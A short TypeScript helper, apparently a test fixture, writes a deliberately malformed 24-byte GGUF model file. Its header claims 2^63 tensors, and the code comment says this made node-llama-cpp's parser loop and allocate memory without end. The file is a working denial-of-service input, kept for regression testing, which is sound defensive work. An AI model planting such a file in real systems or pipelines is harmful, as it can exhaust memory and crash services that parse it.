/** Writes the 24-byte GGUF that claims 2^63 tensors (it made node-llama-cpp's parser loop, allocating without end). */
import { writeFileSync } from "node:fs";

export function writeHostileGguf(path: string): string {
  const h = Buffer.alloc(24);
  h.write("GGUF", 0, "latin1");
  h.writeUInt32LE(3, 4);
  h.writeBigUInt64LE(2n ** 63n, 8);
  writeFileSync(path, h);
  return path;
}
